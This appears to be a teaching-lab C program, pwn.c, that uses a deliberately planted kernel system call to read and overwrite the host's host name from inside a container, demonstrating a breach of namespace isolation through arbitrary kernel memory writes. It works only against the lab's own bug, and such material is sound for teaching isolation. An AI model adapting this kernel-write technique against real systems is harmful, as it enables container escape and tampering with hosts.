/* pwn.c -- the isolation lab's exploit: `pwn ADDR NAME` uses the planted bug (kernel/labbug.c,
 * system call 1000, on only with labbug=1) to read, then overwrite, the host name of the kernel's
 * initial UTS namespace, 65 bytes at kernel address ADDR (the lab finds it in the kernel's symbol
 * table: init_uts + 12 -- the kernel is not randomized, as Linux without KASLR). A container has its
 * own UTS namespace, so `hostname` cannot reach that name; a write into kernel memory can.
 * Prints what it read and did; exits 0 when it wrote, 1 when the call failed, 2 for bad arguments. */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define LABBUG_NR 1000
#define LABBUG_READ 0
#define LABBUG_WRITE 1

int main(int argc, char **argv)
{
    if (argc != 3 || strlen(argv[2]) > 60) {
        fprintf(stderr, "usage: pwn ADDR NAME (NAME at most 60 characters)\n");
        return 2;
    }
    unsigned long addr = strtoul(argv[1], NULL, 0);
    char old[68] = "";
    for (int i = 0; i < 16; i++) {         /* read the name a word at a time */
        errno = 0;
        long w = syscall(LABBUG_NR, LABBUG_READ, addr + 4 * i, 0);
        if (w == -1 && errno) {
            printf("pwn: read failed: %s\n", strerror(errno));
            return 1;
        }
        memcpy(old + 4 * i, &w, 4);
    }
    old[64] = 0;
    printf("pwn: the kernel's host name was '%s'\n", old);
    char name[64] = { 0 };
    strcpy(name, argv[2]);
    int words = (int)(strlen(name) + 4) / 4;   /* the name and its NUL */
    for (int i = 0; i < words; i++) {
        long w;
        memcpy(&w, name + 4 * i, 4);
        if (syscall(LABBUG_NR, LABBUG_WRITE, addr + 4 * i, w) < 0) {
            printf("pwn: write failed: %s\n", strerror(errno));
            return 1;
        }
    }
    printf("pwn: %d words written\n", words);
    return 0;
}
